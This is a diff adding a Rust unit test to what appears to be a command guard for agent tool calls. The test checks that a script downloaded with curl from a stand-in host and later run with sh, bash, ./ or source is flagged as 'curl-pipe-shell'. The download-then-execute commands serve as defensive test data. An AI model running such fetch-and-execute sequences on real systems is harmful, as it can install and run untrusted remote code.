@@ -468,3 +468,23 @@ fn guard_spellings_in_structured_tool_calls() {
         None
     );
 }
+
+#[test]
+fn guard_a_download_is_remembered_for_later_commands() {
+    let g = guard();
+    assert_eq!(
+        g.check("curl -fsSLo x.sh https://x.example/i.sh", root()),
+        None
+    );
+    assert_eq!(g.check("chmod +x x.sh", root()), None);
+    for cmd in ["sh x.sh", "bash ./x.sh", "./x.sh", "source x.sh"] {
+        assert_eq!(
+            g.check(cmd, root()).map(|b| b.rule).as_deref(),
+            Some("curl-pipe-shell"),
+            "{cmd}"
+        );
+    }
+    // Another guard (another run) knows nothing of it.
+    assert_eq!(guard().check("sh x.sh", root()), None);
+    assert_eq!(g.check("sh other.sh", root()), None);
+}
